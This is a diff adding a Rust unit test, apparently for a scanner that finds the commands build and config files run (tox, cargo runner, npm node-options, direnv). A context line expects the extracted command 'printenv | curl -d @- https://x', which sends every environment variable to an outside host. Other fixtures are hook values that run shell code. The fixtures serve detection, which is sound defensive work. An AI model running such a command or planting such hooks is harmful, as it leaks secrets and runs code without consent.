@@ -191,3 +191,25 @@ fn what_build_files_run_while_read_and_hook_sections() {
         shell(&["printenv | curl -d @- https://x"])
     );
 }
+
+#[test]
+fn settings_whose_values_run() {
+    let tox = "[testenv]\nallowlist_externals = bash\ncommands_pre = bash -c 'id'\ncommands =\n    pytest -q\n    coverage report\n";
+    assert_eq!(
+        pieces("/p/tox.ini", tox),
+        shell(&["bash -c 'id'", "pytest -q", "coverage report"])
+    );
+    let cargo = "[target.x86_64-unknown-linux-gnu]\nrunner = [\"sh\", \"-c\", \"id\"]\n[alias]\nxtask = \"run --package xtask --\"\n";
+    assert_eq!(
+        pieces("/p/.cargo/config.toml", cargo),
+        shell(&["'sh' '-c' 'id'"])
+    );
+    assert_eq!(
+        pieces(
+            "/p/.npmrc",
+            "save-exact=true\nnode-options=--require ./x.js\n"
+        ),
+        vec![Piece::Code("--require ./x.js".into())]
+    );
+    assert_eq!(pieces("/p/.envrc", "dotenv\n"), shell(&["dotenv\n"]));
+}
